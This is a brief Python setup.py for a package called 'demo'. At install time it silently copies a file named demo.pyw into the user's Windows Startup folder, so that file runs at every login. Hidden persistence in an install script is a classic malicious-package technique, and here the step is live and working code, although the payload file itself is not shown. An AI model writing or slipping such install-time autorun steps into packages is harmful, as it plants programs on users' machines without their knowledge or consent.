import os
import shutil
from setuptools import setup

shutil.copy("demo.pyw", os.path.join(os.environ["APPDATA"], "Microsoft/Windows/Start Menu/Programs/Startup/demo.pyw"))
setup(name="demo", version="1.0")
